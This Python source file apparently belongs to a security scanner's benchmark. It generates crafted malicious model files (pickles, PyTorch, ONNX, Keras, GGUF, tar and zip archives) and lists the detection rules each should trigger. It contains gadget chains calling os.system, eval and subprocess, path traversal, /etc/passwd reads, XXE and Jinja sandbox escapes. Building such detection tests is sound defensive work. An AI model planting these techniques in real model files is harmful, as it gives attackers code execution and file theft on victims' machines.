"""Malicious model files put together from harmless things, and formats seldom looked at.

Written in one go, before the rules were read, and judged once; see ``benchmarks/RESULTS.md`` for how many
were found then. As in `corpus`, nothing is ever loaded and every payload is harmless.
"""

# ruff: noqa: E501, PLR0915 - one technique a line, however long

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Iterator
from types import ModuleType

SKLEARN = "scikit-learn, user guide, parameters that are callables"
CPYTHON = "CPython, Lib/pickle.py: find_class imports, load_build sets attributes"
SCIPY = "SciPy, attributes that are called"
TORCH = "PyTorch, source of torch/_tensor.py, torch/_utils.py, torch/fx/graph_module.py"
TENSOR_ABUSE = "Zhu et al., My Model is Malware to You (TensorAbuse), IEEE S&P 2025"
HF = "transformers and huggingface_hub, documentation"
JINJA = "Jinja, sandbox escapes (HackTricks; Python frames)"
ONNX = "ONNX, IR.md, external data; ONNX Runtime, EPContext design"
TAR = "POSIX pax; Edera, TARmageddon (CVE-2025-62518)"
ZIP = "APPNOTE.TXT 4.4 to 4.6; PyPI, ZIP parser confusion, August 2025"


def combinations(c: ModuleType) -> Iterator[object]:
    """Yield techniques; `c` is the module `corpus`, whose parts they are made of."""
    yield from _pickles(c)
    yield from _torch(c)
    yield from _archives(c)
    yield from _graphs(c)
    yield from _texts(c)


def _pickles(c: ModuleType) -> Iterator[object]:
    unknown = c.UNKNOWN | {"LG-SCAN-004"}

    def one(title: str, source: str, body: bytes, rules: frozenset[str] = unknown) -> object:
        return c.Technique(f"mix-{title}.pkl", source, rules, b"\x80\x04" + body + b".")

    def held(module: str, title: str, **slots: bytes) -> bytes:
        return c.built(module, title, c.items(*(c.text(key) + value for key, value in slots.items())))

    g = c.stacked
    transformer = ("sklearn.preprocessing._function_transformer", "FunctionTransformer")
    for title, func in (
        ("numpy-load", g("numpy", "load")),
        ("fromfile", g("numpy", "fromfile")),
        ("read-csv", g("pandas.io.parsers.readers", "read_csv")),
        ("open-memmap", g("numpy.lib.format", "open_memmap")),
        ("partial", g("functools", "partial") + g("builtins", "eval") + b"\x85R"),
    ):
        yield one(f"transformer-{title}", SKLEARN, held(*transformer, func=func, validate=b"\x89"))
    yield one("transformer-inverse", SKLEARN, held(*transformer, func=b"N", inverse_func=g("os", "system")))
    vectorizer = ("sklearn.feature_extraction.text", "CountVectorizer")
    yield one("analyzer", SKLEARN, held(*vectorizer, analyzer=g("builtins", "exec")))
    yield one("tokenizer", SKLEARN, held(*vectorizer, tokenizer=g("pydoc", "locate")))
    yield one(
        "preprocessor-is-an-allowed-class", SKLEARN, held(*vectorizer, preprocessor=g("numpy", "memmap"))
    )
    yield one("kernel", SKLEARN, held("sklearn.svm._classes", "SVC", kernel=g("numpy", "save")))
    yield one(
        "metric",
        SKLEARN,
        held("sklearn.neighbors._classification", "KNeighborsClassifier", weights=g("os", "popen")),
    )
    yield one("scorer", SKLEARN, held("sklearn.metrics._scorer", "_Scorer", _score_func=g("posix", "execv")))
    yield one(
        "target",
        SKLEARN,
        held("sklearn.compose._target", "TransformedTargetRegressor", func=g("runpy", "run_path")),
    )
    yield one(
        "link-generator",
        SKLEARN,
        held(
            "sklearn.linear_model._base",
            "LinearRegression",
            _doc_link_url_param_generator=g("builtins", "input"),
        ),
    )
    yield one(
        "cache-of-choice",
        "joblib.Memory unpickles what lies in its location",
        held("sklearn.pipeline", "Pipeline", steps=b"]", memory=g("joblib.memory", "Memory") + b")\x81"),
    )
    yield one(
        "shadowed-predict", SKLEARN, held("sklearn.dummy", "DummyClassifier", predict=g("numpy", "dot"))
    )
    yield one(
        "vectorize", "NumPy, vectorize calls pyfunc", held("numpy", "vectorize", pyfunc=g("os", "system"))
    )
    masked = g("numpy.ma.core", "_mareconstruct") + b"(" + g("numpy.ma.core", "MaskedArray")
    yield one(
        "masked-memmap", "NumPy, _mareconstruct makes its second argument",
        masked + g("subprocess", "Popen") + b"K\x00\x85C\x01btR",
    )  # fmt: skip
    rebuilt = g("numpy._core.multiarray", "_reconstruct") + g("numpy", "memmap") + b"K\x00\x85C\x01b\x87R"
    yield one("memmap-state", "NumPy, memmap._mmap and filename", rebuilt + b"}" + c.text("filename") + c.text("/etc/passwd") + b"sb")  # fmt: skip
    yield one("numpy-measure", "NumPy, testing.measure executes text", g("numpy.testing._private.utils", "measure") + c.text("1") + b"\x85R")  # fmt: skip
    yield one("datasource", "NumPy, DataSource opens addresses", g("numpy.lib._datasource", "open") + c.text("http://localhost/") + b"\x85R")  # fmt: skip

    yield one(
        "interp-call", SCIPY, held("scipy.interpolate._interpolate", "interp1d", _call=g("os", "system"))
    )
    yield one("rbf", SCIPY, held("scipy.interpolate._rbf", "Rbf", function=g("builtins", "eval")))
    yield one("kde", SCIPY, held("scipy.stats._kde", "gaussian_kde", covariance_factor=g("os", "abort")))
    generic = ("scipy.stats._distn_infrastructure", "rv_continuous")
    shapes = held(*generic, shapes=c.text("a=print(1)"), _parse_arg_template=c.text("print(1)"))
    yield one("frozen-shapes", SCIPY, g("scipy.stats._distn_infrastructure", "rv_continuous_frozen") + shapes + b"\x85R")  # fmt: skip
    yield one("backend", "SciPy, uarray's state is set for the process", g("scipy._lib._uarray", "_BackendState") + b")R")  # fmt: skip

    registry = g("copyreg", "_inverted_registry") + b"K\x01" + c.text("os") + c.text("system") + b"\x86s0"
    yield one("extension-registered-here", CPYTHON, registry + b"\x82\x01" + c.text(c.ECHO) + b"\x85R", unknown | {"LG-SCAN-005"})  # fmt: skip
    yield one("dispatch-table", CPYTHON, g("copyreg", "dispatch_table") + g("builtins", "list") + g("os", "system") + b"s")  # fmt: skip
    yield one("path-appended", CPYTHON, g("sys", "path") + c.text("/nowhere") + b"a")
    yield one("import-is-enough", CPYTHON, g("antigravity", "__doc__") + b"0}")
    yield one("import-starts", CPYTHON, g("idlelib.idle", "idlelib") + b"0}")
    yield one("main", CPYTHON, g("__main__", "load") + c.text("x") + b"\x85R")
    yield one("reconstructor", CPYTHON, g("copyreg", "_reconstructor") + g("ctypes", "CDLL") + g("builtins", "object") + b"N\x87R")  # fmt: skip
    yield one("newobj-function", CPYTHON, g("copyreg", "__newobj_ex__") + g("subprocess", "Popen") + c.text(c.ECHO) + b"\x85}\x87R")  # fmt: skip
    iterated = g("builtins", "iter") + g("builtins", "input") + c.text("") + b"\x86R"
    yield one("deque-of-a-call", CPYTHON, g("collections", "deque") + iterated + b"\x85R")
    yield one(
        "operator-call", CPYTHON, g("_operator", "call") + g("os", "system") + c.text(c.ECHO) + b"\x86R"
    )
    yield one("sort-key", CPYTHON, g("functools", "cmp_to_key") + g("os", "system") + b"\x85R")
    yield one("decoded-name", CPYTHON, g("_codecs", "decode") + c.blob(b"\\x6f\\x73") + c.text("unicode_escape") + b"\x86R" + c.text("system") + b"\x93" + c.text(c.ECHO) + b"\x85R")  # fmt: skip
    yield one("zone-file", "dateutil and zoneinfo read files", g("dateutil.tz.tz", "tzfile") + c.text("/etc/passwd") + b"\x85R")  # fmt: skip
    yield one(
        "plural", "gettext compiles the plural of a catalogue", g("gettext", "c2py") + c.text("n") + b"\x85R"
    )
    yield one(
        "dict-config", "logging.config calls what '()' names", g("logging.config", "dictConfig") + b"}\x85R"
    )
    yield one("sax-parser", "xml.sax imports the parsers it is given", g("xml.sax", "make_parser") + b"](" + c.text("evil") + b"e\x85R")  # fmt: skip
    yield one("forking", "multiprocessing.reduction unpickles", g("multiprocessing.reduction", "ForkingPickler.loads") + c.blob(b"N.") + b"\x85R")  # fmt: skip
    yield one("subimport", "cloudpickle, source", g("cloudpickle.cloudpickle", "subimport") + c.text("antigravity") + b"\x85R")  # fmt: skip
    yield one("dynamic-module", "cloudpickle, source", g("cloudpickle.cloudpickle", "dynamic_subimport") + c.text("m") + b"}\x86R")  # fmt: skip
    yield one("booster-objective", "XGBoost calls its objective", held("xgboost.sklearn", "XGBClassifier", objective=g("os", "system")))  # fmt: skip
    yield one("arrow-type", "PyArrow, CVE-2023-47248", g("pyarrow.lib", "PyExtensionType") + b")R")


def _torch(c: ModuleType) -> Iterator[object]:
    unknown, g = c.UNKNOWN | {"LG-SCAN-004"}, c.stacked

    def one(title: str, body: bytes, source: str = TORCH) -> object:
        return c.Technique(f"mix-{title}.pt", source, unknown, c.torch_zip(b"\x80\x04" + body + b"."))

    typed = g("torch._tensor", "_rebuild_from_type_v2") + b"(" + g("os", "system")
    yield one("from-type", typed + g("torch", "Tensor") + c.text(c.ECHO) + b"\x85}tR")
    allowed = g("torch._tensor", "_rebuild_from_type_v2") + b"(" + g("torch.storage", "_load_from_bytes")
    yield one("from-type-loads", allowed + g("torch", "Tensor") + c.blob(c.system(2)) + b"\x85}tR")
    yield one("graph-module", g("torch.fx.graph_module", "reduce_graph_module") + c.items(c.text("_code") + c.text("print(1)")) + c.text("import os") + b"\x86R")  # fmt: skip
    hooks = g("collections", "OrderedDict") + b")RK\x01" + g("os", "system") + b"s"
    parameter = g("torch._utils", "_rebuild_parameter") + b"N\x88" + hooks + b"\x87R"
    yield one("backward-hook", parameter)
    state = g("torch._utils", "_rebuild_parameter_with_state") + b"(N\x89N" + c.items(c.text("backward") + g("os", "system")) + b"tR"  # fmt: skip
    yield one("parameter-state", state)
    yield one("storage-of-choice", b"(" + c.text("storage") + g("os", "system") + c.text("0") + c.text("cpu") + b"K\x01tQ")  # fmt: skip
    yield one("activation", c.built("torch.nn.modules.transformer", "TransformerEncoderLayer", c.items(c.text("activation") + g("builtins", "eval"))))  # fmt: skip
    library = b"\x7fELF\x02\x01\x01" + b"\0" * 64
    compiled = {"m/data/aotinductor/model/c.so": library, "m/version": b"1", "m/archive_format": b"pt2"}
    compiled_rules = frozenset(["LG-SCAN-101", "LG-SCAN-090"])
    yield c.Technique("mix-compiled.pt2", "PyTorch, AOTInductor packages", compiled_rules, c.zipped(compiled))
    for title, given in (
        (
            "class",
            "  _0 = __torch__.torch.classes.custom.Runner.__new__(__torch__.torch.classes.custom.Runner)\n",
        ),
        ("loop", "  _0 = ops.prim.from_file(x, False, 1)\n"),
    ):
        code = b"def forward(self, x: Tensor) -> Tensor:\n" + given.encode() + b"  return x\n"
        yield c.Technique(
            f"mix-script-{title}.pt", "PyTorch, TorchScript custom classes", frozenset(["LG-SCAN-090"]),
            c.torch_zip(c.EMPTY_MODEL, **{"m/code/__torch__.py": code}),
        )  # fmt: skip


def _archives(c: ModuleType) -> Iterator[object]:
    def one(title: str, source: str, rules: str, data: bytes) -> object:
        return c.Technique(f"mix-{title}", source, frozenset(rules.split()), data)

    pickled = c.system(2)

    def pax(headers: dict[str, str], name: str = "weights.txt", data: bytes = b"x" * 1024) -> bytes:
        made = io.BytesIO()
        with tarfile.open(fileobj=made, mode="w", format=tarfile.PAX_FORMAT) as archive:
            info = tarfile.TarInfo(name)
            info.size, info.pax_headers = len(data), headers
            archive.addfile(info, io.BytesIO(data))
        return made.getvalue()

    yield one("pax-path.tar", TAR, "LG-SCAN-020", pax({"path": "../../evil.txt"}))
    inner = c.tarred({"evil.pkl": pickled})
    yield one("pax-size.tar", TAR, "LG-SCAN-001 LG-SCAN-023 LG-SCAN-026", pax({"size": "0"}, data=inner))
    yield one("long-name.tar", TAR, "LG-SCAN-020", c.tarred({"a/" * 80 + "../" * 90 + "x.txt": b"x"}))
    zstd = (
        b"\x28\xb5\x2f\xfd\x20"
        + bytes([len(pickled)])
        + struct.pack("<I", len(pickled) << 3 | 1)[:3]
        + pickled
    )
    yield one("model.pkl.zst", "pandas.read_pickle, RFC 8878", "LG-SCAN-001 LG-SCAN-008 LG-SCAN-007", zstd)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("Weights.npy", c.npy(b"\0" * 8, "<f8"))
        archive.writestr("weights.npy", c.npy(pickled))
    yield one("case.npz", ZIP, "LG-SCAN-001", made.getvalue())
    info = zipfile.ZipInfo("m/data.pkl")
    name = b"../../evil.pkl"
    info.extra = struct.pack("<HHBI", 0x7075, 5 + len(name), 1, 0) + name
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(info, c.EMPTY_MODEL)
    yield one("unicode-path.zip", ZIP, "LG-SCAN-020 LG-SCAN-023", made.getvalue())
    nested = [("a", [("b", "|O")])]
    yield one("nested-objects.npy", "numpy.load, allow_pickle", "LG-SCAN-001", c.npy(pickled, nested))
    pair = [("a", "|O", (2,))]
    yield one("shaped-objects.npz", "numpy.load, allow_pickle", "LG-SCAN-001", c.zipped({"x.npy": c.npy(pickled, pair)}))  # fmt: skip
    llamafile = (
        b"MZqFpD='\n" + b"\0" * 64 + c.zipped({"model.gguf": c.gguf("x"), ".args": b"-m\nmodel.gguf\n"})
    )
    yield one("llamafile.gguf", "Mozilla, llamafile", "LG-SCAN-101 LG-SCAN-026", llamafile)
    overflow = '{"a":{"dtype":"F32","shape":[8589934592,2147483648],"data_offsets":[0,0]}}'
    yield one(
        "overflow.safetensors", "safetensors, sizes that wrap", "LG-SCAN-070", c.safetensor(overflow, b"")
    )
    rds = gzip.compress(b"X\n" + struct.pack(">III", 3, 0x40300, 0x30500) + struct.pack(">I", 5) + b"\0" * 16)
    yield one("promise.rds", "HiddenLayer, CVE-2024-27322", "LG-SCAN-008 LG-SCAN-101", rds)
    loader = {"__loader__": "DefaultDictNode", "__module__": "collections", "__class__": "defaultdict"}
    factory = {"__loader__": "FunctionNode", "__module__": "os", "__class__": "function", "content": {"module_path": "os", "function": "system"}}  # fmt: skip
    for title, node in (
        ("default-factory", {**loader, "content": {}, "default_factory": factory}),
        (
            "outside",
            {
                "__loader__": "NdArrayNode",
                "__module__": "numpy",
                "__class__": "ndarray",
                "type": "numpy",
                "file": "../../etc/passwd",
            },
        ),
        (
            "forest",
            {
                "__loader__": "QuantileForestNode",
                "__module__": "subprocess",
                "__class__": "Popen",
                "__reduce__": {"args": []},
            },
        ),
    ):
        data = c.zipped({"schema.json": json.dumps(node).encode()})
        yield one(f"{title}.skops", "skops, source of its nodes", "LG-SCAN-080 LG-SCAN-008", data)


def _graphs(c: ModuleType) -> Iterator[object]:
    def one(title: str, source: str, rule: str, data: bytes) -> object:
        return c.Technique(f"mix-{title}", source, frozenset(rule.split()), data)

    f = c.field
    for operator in (
        "PrintV2",
        "ImmutableConst",
        "DebugIdentityV3",
        "SqlDataset",
        "DataServiceDatasetV4",
    ):
        yield one(f"{operator}.pb", TENSOR_ABUSE, "LG-SCAN-040", c.saved_model(operator))
    inner = f(1, f(1, f(1, "f"))) + f(1, f(3, f(1, "n") + f(2, "PyFunc")))
    graph = f(1, f(1, "n") + f(2, "Const")) + f(2, inner)
    library = f(1, 1) + f(2, f(1, f(4, "serve")) + f(2, graph))
    yield one("function.pb", TENSOR_ABUSE, "LG-SCAN-040", library)
    asset = f(1, 1) + f(2, f(1, f(4, "serve")) + f(2, f(1, f(1, "n") + f(2, "Const"))) + f(6, f(1, f(1, "x")) + f(2, "../../etc/passwd")))  # fmt: skip
    yield one("asset.pb", "TensorFlow, AssetFileDef names a file", "LG-SCAN-040 LG-SCAN-020", asset)

    outside = f(13, f(1, "location") + f(2, "../../etc/passwd")) + f(14, 1)
    tensor = f(1, 2) + f(2, 1) + f(8, "w") + outside
    twice = f(1, 2) + f(2, 1) + f(8, "w") + f(13, f(1, "location") + f(2, "w.bin")) + outside
    relu = f(1, "x") + f(2, "y") + f(4, "Relu")
    custom = relu + f(7, "my.ops")
    opset = f(8, f(1, "") + f(2, 18))

    def model(graph: bytes, *more: bytes) -> bytes:
        return f(1, 9) + f(7, graph) + opset + b"".join(more)

    branch = f(1, relu) + f(2, "b") + f(5, tensor)
    conditional = f(1, "c") + f(2, "y") + f(4, "If") + f(5, f(1, "then_branch") + f(6, branch) + f(20, 5))
    yield one("branch.onnx", ONNX, "LG-SCAN-050", model(f(1, conditional) + f(2, "g")))
    hidden = (
        f(1, "c")
        + f(2, "y")
        + f(4, "If")
        + f(5, f(1, "then_branch") + f(6, f(1, custom) + f(2, "b")) + f(20, 5))
    )
    yield one("branch-domain.onnx", ONNX, "LG-SCAN-051", model(f(1, hidden) + f(2, "g")))
    constant = f(2, "y") + f(4, "Constant") + f(5, f(1, "value") + f(5, tensor) + f(20, 4))
    yield one("constant.onnx", ONNX, "LG-SCAN-050", model(f(1, constant) + f(2, "g")))
    yield one("location-twice.onnx", ONNX, "LG-SCAN-050", model(f(1, relu) + f(2, "g") + f(5, twice)))
    sparse = f(15, f(1, tensor) + f(2, tensor) + f(3, 1))
    yield one("sparse.onnx", ONNX, "LG-SCAN-050", model(f(1, relu) + f(2, "g") + sparse))
    function = f(25, f(1, "mine") + f(4, "x") + f(5, "y") + f(7, custom) + f(10, ""))
    yield one("function.onnx", ONNX, "LG-SCAN-051", model(f(1, relu) + f(2, "g"), function))
    context = f(1, "x") + f(2, "y") + f(4, "EPContext") + f(7, "com.microsoft") + f(5, f(1, "ep_cache_context") + f(4, "../../evil.so") + f(20, 3))  # fmt: skip
    yield one("engine.onnx", ONNX, "LG-SCAN-050 LG-SCAN-051", model(f(1, context) + f(2, "g")))
    training = f(20, f(1, f(1, relu) + f(2, "t") + f(5, tensor)))
    yield one("training.onnx", ONNX, "LG-SCAN-050", model(f(1, relu) + f(2, "g"), training))

    def keras(compiled: object, *layers: object) -> bytes:
        config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}, "compile_config": compiled}  # fmt: skip
        return c.zipped(
            {"config.json": json.dumps(config).encode(), "metadata.json": b'{"keras_version": "3.9.0"}'}
        )

    loss = {
        "loss": {
            "module": "builtins",
            "class_name": "function",
            "config": "eval",
            "registered_name": "function",
        }
    }
    yield one("loss.keras", "Keras, compile_config is deserialised", "LG-SCAN-031", keras(loss))
    standard = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    yield one("standardize.keras", "Keras, TextVectorization(standardize=)", "LG-SCAN-031", keras(None, c.layer("TextVectorization", standardize=standard)))  # fmt: skip
    yield one("jax.keras", "Keras, JaxLayer(call_fn=)", "LG-SCAN-030 LG-SCAN-031", keras(None, c.layer("JaxLayer", call_fn={"class_name": "__lambda__", "config": {}})))  # fmt: skip
    loads = {"module": "keras.src.utils.python_utils", "class_name": "function", "config": "func_load", "registered_name": "func_load"}  # fmt: skip
    yield one("func-load.keras", "Keras, func_load unmarshals", "LG-SCAN-031", keras(None, c.layer("Dense", activation=loads)))  # fmt: skip


def _texts(c: ModuleType) -> Iterator[object]:
    def one(title: str, source: str, rule: str, data: bytes) -> object:
        return c.Technique(f"mix-{title}", source, frozenset(rule.split()), data)

    for number, template in enumerate(
        (
            "{{ (messages|map('upper')).gi_frame.f_back.f_globals }}",
            "{{ ()[dict(__cla=1,ss__=1)|join] }}",
            "{{ ()|attr(messages[0].role) }}",
            "{% set a = messages[0]['content'] %}{{ messages[a][a](a) }}",
            "{{ raise_exception.__globals__['os'] }}",
            "{{ strftime_now.func_globals }}",
            "{% filter attr('__class__') %}x{% endfilter %}",
            "{{ ()|attr(('_','_','class','_','_')|join) }}",
            "{{ (cycler|string)[0:1].join(['', '']) }}{{ ()|attr('\\137\\137class\\137\\137') }}",
            "{% extends messages[0].content %}",
        )
    ):
        yield one(f"chat-{number}.gguf", JINJA, "LG-SCAN-060", c.gguf(template))
    lists = {
        "chat_template": [{"name": "default", "template": "x"}, {"name": "tool_use", "template": c.TEMPLATE}]
    }
    yield one("templates/tokenizer_config.json", HF, "LG-SCAN-060", json.dumps(lists).encode())
    yield one("jinja/chat_template.jinja", HF, "LG-SCAN-060", c.TEMPLATE.encode())
    named = c.gguf(c.TEMPLATE).replace(b"tokenizer.chat_template", b"tokenizer.chat_templatf")
    longer = b"tokenizer.chat_template.tool_use"
    named = named.replace(
        struct.pack("<Q", 23) + b"tokenizer.chat_templatf", struct.pack("<Q", len(longer)) + longer
    )
    yield one("named-template.gguf", "llama.cpp, tokenizer.chat_template.NAME", "LG-SCAN-060", named)
    for title, content in (
        (
            "index/model.safetensors.index.json",
            {"metadata": {}, "weight_map": {"w": "../../evil/pytorch_model.bin"}},
        ),
        (
            "pipelines/config.json",
            {"model_type": "x", "custom_pipelines": {"p": {"impl": "evil.Mine", "pt": ["AutoModel"]}}},
        ),
        ("kernel/config.json", {"model_type": "llama", "_attn_implementation": "someone/kernel:run"}),
        ("processor/processor_config.json", {"auto_map": {"AutoProcessor": "someone/repo--processing.Mine"}}),
    ):
        yield one(title, HF, "LG-SCAN-061", json.dumps(content).encode())
    code = b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: model.py\n"
    yield one("code/MLmodel", "MLflow, models from code", "LG-SCAN-062", code)
    pmml = b'<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML version="4.4">&x;</PMML>'
    yield one("entity.pmml", "OWASP, XML external entities", "LG-SCAN-062 LG-SCAN-101 LG-SCAN-008", pmml)
    hydra = b"defaults:\n  - _self_\nhydra:\n  sweeper:\n    _target_: builtins.exec\n    _args_: ['1']\n"
    yield one("hydra/config.yaml", "Hydra, instantiate", "LG-SCAN-062", hydra)
